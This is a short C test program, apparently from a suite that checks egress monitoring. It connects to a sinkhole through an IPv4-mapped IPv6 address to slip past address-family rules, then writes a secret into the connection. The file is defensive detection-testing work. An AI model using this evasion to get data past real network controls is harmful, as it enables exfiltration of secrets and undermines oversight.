// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Reaches an IPv4 address by an IPv6 socket, as ::ffff:a.b.c.d.
 * Known from: IPv4-mapped addresses (RFC 4291), against rules by address family.
 * First: connect at entry and exit
 * Second: the cgroup hook's copy of the address; the sinkhole's record
 */
#include "trick.h"

int main(void)
{
	struct sockaddr_in four = sink(8080);
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = four.sin_port };
	int fd = socket(AF_INET6, SOCK_STREAM, 0);

	to.sin6_addr.s6_addr[10] = to.sin6_addr.s6_addr[11] = 0xff;
	memcpy(to.sin6_addr.s6_addr + 12, &four.sin_addr, 4);
	if (connect(fd, (void *)&to, sizeof(to)))
		err(1, "connect");
	dprintf(fd, "%s", secret());
	finish(fd);
	performed();
}
